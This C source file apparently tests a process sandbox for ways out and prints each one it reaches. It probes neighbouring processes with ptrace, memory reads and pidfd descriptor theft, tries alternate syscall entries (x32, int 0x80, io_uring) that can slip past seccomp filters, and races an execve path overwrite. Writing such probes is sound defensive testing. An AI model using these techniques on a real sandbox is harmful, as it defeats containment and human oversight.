/* Ways out of a step that shares its surroundings' kernel tables: prints what it reached, then "end".

   attempts SECRET EVIL NAME: a file outside, a program outside that prints, an abstract socket. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { PIDFD_OPEN = 434, PIDFD_GETFD = 438, PIDFD_SIGNAL = 424, IO_URING_SETUP = 425, X32 = 0x40000000 };
enum { RACES = 60, WINDOW = 1024, RED_ZONE = 256 };

static sigjmp_buf back;
static char secret[4096], evil[4096];

static void no_such_entry(int number) { siglongjmp(back, number); }

static void processes(void)
{
    pid_t supervisor = getppid();
    for (pid_t pid = supervisor - 3; pid <= supervisor + 3; pid++) {
        if (pid <= 1 || pid == getpid()) continue;
        if (kill(pid, 0) == 0) printf("SIGNALLED %d\n", pid);
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 || ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) printf("TRACED %d\n", pid);
        char byte;
        struct iovec here = {&byte, 1}, there = {secret, 1};
        if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1) printf("READ %d\n", pid);
        int fd = syscall(PIDFD_OPEN, pid, 0);
        if (fd < 0) continue;
        if (syscall(PIDFD_SIGNAL, fd, 0, 0, 0) == 0) printf("SIGNALLED by pidfd %d\n", pid);
        for (int number = 0; number < 20; number++)
            if (syscall(PIDFD_GETFD, fd, number, 0) >= 0) printf("TAKEN %d from %d\n", number, pid);
        close(fd);
    }
}

static long by_int80(long number, const char *path)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(path), "c"(0L), "d"(0L) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static void entries(void)
{
    char parameters[120] = {0};
    if (syscall(IO_URING_SETUP, 4, parameters) >= 0) printf("IO_URING\n");
    if (syscall(X32 | SYS_open, secret, O_RDONLY) >= 0) printf("X32\n");
    signal(SIGSEGV, no_such_entry); /* a kernel without 32-bit programs has no such gate */
    if (sigsetjmp(back, 1) == 0 && by_int80(5, secret) >= 0) printf("INT80\n");
    signal(SIGSEGV, SIG_DFL);
}

static void connect_to(const char *name)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    socklen_t size = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, size) == 0) printf("CONNECTED\n");
    strcat(address.sun_path + 1, "-datagrams");
    size += strlen("-datagrams");
    fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (fd >= 0 && sendto(fd, "x", 1, 0, (struct sockaddr *)&address, size) == 1) printf("SENT\n");
}

static void *overwrite(void *window) /* whatever path is put below the other thread's stack pointer */
{
    for (;;)
        for (volatile char *at = window; at < (volatile char *)window + WINDOW; at++)
            if (*at == '/' && at[1] != evil[1]) strcpy((char *)at, evil);
            else if (*at == '/') at += strlen(evil);
    return 0;
}

static void race(void)
{
    for (int round = 0; round < RACES; round++) {
        if (fork() == 0) {
            char here;
            pthread_t thread;
            char *window = &here - RED_ZONE - WINDOW;
            memset(window - 4096, 0, 4096);
            if (pthread_create(&thread, 0, overwrite, window) == 0) {
                execl("/bin/true", "true", (char *)0);
                execl(evil, "evil", (char *)0);
            }
            _exit(1);
        }
        while (wait(0) > 0) {}
    }
}

int main(int count, char **words)
{
    if (count != 4) return 2;
    setvbuf(stdout, 0, _IONBF, 0);
    strncpy(secret, words[1], sizeof secret - 1);
    strncpy(evil, words[2], sizeof evil - 1);
    processes();
    entries();
    connect_to(words[3]);
    race();
    puts("end");
    return 0;
}
